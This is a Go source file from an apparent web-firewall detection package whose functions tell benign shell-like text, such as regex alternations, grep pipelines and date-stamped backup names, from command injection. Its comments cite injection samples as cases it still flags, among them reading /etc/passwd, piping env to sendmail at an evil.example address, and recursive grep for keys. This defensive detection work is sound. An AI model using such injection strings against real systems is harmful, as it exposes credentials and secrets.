// Package lookalike tells shell-like developer text from an injected
// command: regex alternations, command lines piped into a text filter,
// time stamps built by a backup command, device verbs, and shell documents
// (scripts and transcripts) shown the way documentation shows them. Each
// reader names the one reason its shape cannot do what an injection needs.
package lookalike

import (
	"strings"

	"github.com/lambdawaf/lambdawaf/agent/detect/lex"
	"github.com/lambdawaf/lambdawaf/agent/detect/shell"
)

// Shell look-alikes in developer text: a regex alternation
// ("error|timeout|refused"), a command line piped into a text filter
// ("ls -la ~/projects | grep -v node_modules"), a time stamp built by a
// backup command ("db-$(date +%F).dump"), a Python traceback ("in
// <module>"), a device command ("reboot"). Each helper below names the one
// reason the shape cannot do what an injection needs, and keeps the
// attacks that share its characters: a separator to a command with
// arguments, a substitution running anything but date, a real redirect, a
// filter that reads a file or writes one.

// InertAlternative reports whether the weak command word w at s[ws:we],
// after a '|' at s[ws-1], is an alternative of a regex or a tag list
// rather than a command: "error|timeout|refused", "jpg|date|png". The
// '|' is glued to words on both sides, the word carries no argument and
// pipes straight into a bare word that is no command. A command there
// would only feed its output to that missing command: nothing reaches the
// attacker, and the weak words (date, time, sort, file, ...) change
// nothing on their own. "x|id" and "x|id|" end the chain with the
// command, and "x|cat /etc/passwd" carries an argument: both stay
// findings.
func InertAlternative(s string, ws, we int) bool {
	if ws < 2 || s[ws-1] != '|' || !lex.IsWord(s[ws-2]) || we >= len(s) || s[we] != '|' {
		return false
	}
	j := we + 1
	if j >= len(s) || !lex.IsAlpha(s[j]) {
		return false
	}
	k := j
	for k < len(s) && (lex.IsWord(s[k]) || s[k] == '-') {
		k++
	}
	// the alternative ends the value, the group, or the regex in a sentence
	if k < len(s) && strings.IndexByte("|) \t,", s[k]) < 0 && !(s[k] == '.' && (k+1 == len(s) || lex.IsSpace(s[k+1]))) {
		return false
	}
	// In a sentence the next word is prose. An operand there ("x|env|
	// sendmail a@evil.example", "-s", a path) makes the last alternative
	// a command fed the weak command's output, whatever its name.
	if k < len(s) && lex.IsSpace(s[k]) {
		n := lex.SkipSpace(s, k)
		e := n
		for e < len(s) && !lex.IsSpace(s[e]) && strings.IndexByte("|;&)`", s[e]) < 0 {
			e++
		}
		if e > n && !alphaWord(s[n:e]) {
			return false
		}
	}
	_, known := shell.Command(s[j:k])
	return !known
}

// pipeFilters are text filters that, fed from a pipe, print a part of
// what they read and nothing else: a pipeline shown in a comment ("ls
// -la | grep -v node_modules", "du -sh * | sort -h") ends in one. awk,
// sed, xargs and tee are left out: they run commands or write files.
var pipeFilters = map[string]bool{
	"grep": true, "egrep": true, "fgrep": true, "wc": true, "head": true, "tail": true, "sort": true,
	"uniq": true, "cut": true, "tr": true, "column": true, "tac": true, "rev": true, "nl": true, "fold": true,
	"less": true, "more": true,
}

// HarmlessFilter reports whether the pipeline stage after the '|' at
// s[i-1] is a text filter that reads only the pipe: flags, numbers, for
// grep one pattern (tr: two sets), and plain words, the sentence a
// comment goes on with ("| grep -i lodash shows two versions"). An
// operand that names a file, with a dot, a digit or an underscore
// ("| tail notes.txt", "| grep -r key ."), is one the filter would open
// and print, so it stays a finding, as do paths, variables,
// substitutions, redirects, and sort's options that write files or run a
// program (-o, --compress-program). The stage ends at the next separator;
// later stages are judged at their own separators.
func HarmlessFilter(s string, i int) bool {
	w, _, we := shell.CommandWordAt(s, i)
	if !pipeFilters[w] || !shell.WordEnds(s, we) {
		return false
	}
	end := len(s)
	if k := strings.IndexAny(s[we:], ";|&\n`"); k >= 0 {
		end = we + k
	}
	if end-we > 128 {
		return false
	}
	operands := 0
	switch w {
	case "grep", "egrep", "fgrep":
		operands = 1
	case "tr":
		operands = 2
	}
	for _, a := range strings.Fields(s[we:end]) {
		if strings.ContainsAny(a, "/~$<>(){}@\\") {
			return false
		}
		switch {
		case a[0] == '-':
			if filterOpensFiles(w, a) {
				return false
			}
		case strings.Trim(a, "0123456789,:") == "" && strings.IndexAny(a, "0123456789") >= 0,
			len(a) <= 3 && strings.Trim(a, ",:;'\"") == "":
			// a count or a field list (-n 5, -k 2,3), a quoted delimiter
		case operands > 0:
			operands--
		case alphaWord(a):
			// a word of the sentence around the pipeline
		default:
			return false
		}
	}
	return true
}

// filterOpensFiles reports whether the option a of the text filter w
// makes it read or write files instead of the pipe: grep -r, -R, -d
// recurse and --recursive search the working directory when no file is
// named ("| grep -ri key" prints every matching line under it), sort -o and
// --output write one, --compress-program runs one, --files0-from reads
// the list to open. Short options cluster ("-uo out", "-rh"), and long
// options may be abbreviated ("--rec"), so both are read that way.
func filterOpensFiles(w, a string) bool {
	long := strings.HasPrefix(a, "--")
	switch w {
	case "grep", "egrep", "fgrep":
		if long {
			return strings.HasPrefix(a, "--r") || strings.HasPrefix(a, "--d")
		}
		return strings.ContainsAny(a[1:], "rRd")
	case "sort":
		if long {
			return strings.HasPrefix(a, "--o") || strings.HasPrefix(a, "--c") || strings.HasPrefix(a, "--f") || strings.HasPrefix(a, "--t")
		}
		return strings.IndexByte(a[1:], 'o') >= 0
	}
	return false
}

// TimestampSubst reports whether the substitution whose command word
// "date" ends at s[we] only formats the current time, up to its closing
// ')' or '`' (opener is '(' or '`'): backup and log-rotation commands build file names with it
// ("db-$(date +%F).dump"). Its options are formats ("+%Y-%m-%d", read here
// with the '+' normalised to a blank) and the UTC/ISO/RFC switches; date
// -f (reads a file) and -s (sets the clock) are not among them.
func TimestampSubst(s string, we int, opener byte) bool {
	closer := opener
	if opener == '(' {
		closer = ')'
	}
	end := strings.IndexByte(s[we:min(len(s), we+65)], closer)
	if end < 0 {
		return false
	}
	for _, a := range strings.Fields(s[we : we+end]) {
		switch {
		case a[0] == '%':
			if strings.Trim(a, "%abcdefghijklmnopqrstuvwxyz0123456789-_:.,") != "" {
				return false
			}
		case a == "-u", a == "--utc", a == "--universal", a == "-r", a == "-i", strings.HasPrefix(a, "--iso-8601"),
			strings.HasPrefix(a, "-i") && len(a) <= 9 && strings.Trim(a[2:], "datehoursminsc") == "", strings.HasPrefix(a, "--rfc-"):
		default:
			return false
		}
	}
	return true
}

// deviceVerbs are command words that device and job APIs use as the value
// of a "command" field ({"command":"reboot"}, a liveness "ping"). On their
// own they print nothing an attacker wants; with arguments, a path, or a
// separator they are judged as before.
var deviceVerbs = map[string]bool{"reboot": true, "shutdown": true, "halt": true, "ping": true}

// DeviceVerb reports whether s, the whole value, is exactly a device
// verb: an enum token. A verb with blanks or a line end around it
// ("shutdown\n") is a shell line typed for a terminal, and stays a finding.
func DeviceVerb(s string) bool {
	return deviceVerbs[s]
}

// alphaWord reports whether w is made of letters only, ending in at most
// one punctuation mark of a sentence.
func alphaWord(w string) bool {
	if n := len(w); n > 1 && strings.IndexByte(",.;:!?", w[n-1]) >= 0 {
		w = w[:n-1]
	}
	for i := 0; i < len(w); i++ {
		if !lex.IsAlpha(w[i]) {
			return false
		}
	}
	return w != ""
}
